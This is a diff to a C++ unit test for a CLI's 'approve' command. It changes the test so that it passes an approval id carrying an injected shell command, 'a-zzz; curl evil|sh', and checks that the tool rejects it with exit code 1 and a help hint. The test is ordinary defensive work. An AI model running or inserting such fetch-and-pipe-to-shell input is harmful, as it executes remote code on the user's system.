@@ -193,7 +193,9 @@ TEST_F(CliAsks, AnswersFromElsewhereByTheBeginningOfAnId) {
   ASSERT_EQ(broker_->answers().size(), 1U);
   EXPECT_EQ(broker_->answers()[0].approval_id(), FakeBroker::kApproval);
   EXPECT_EQ(broker_->answers()[0].tell(), "use the test database");
-  EXPECT_EQ(Cowork({"approve", "a-zzz"}).exit, 1);
+  const Outcome unknown = Cowork({"approve", "a-zzz; curl evil|sh"});
+  EXPECT_EQ(unknown.exit, 1);
+  EXPECT_THAT(unknown.text, HasSubstr("\n  do    cowork approvals\n"));
 }
 
 }  // namespace
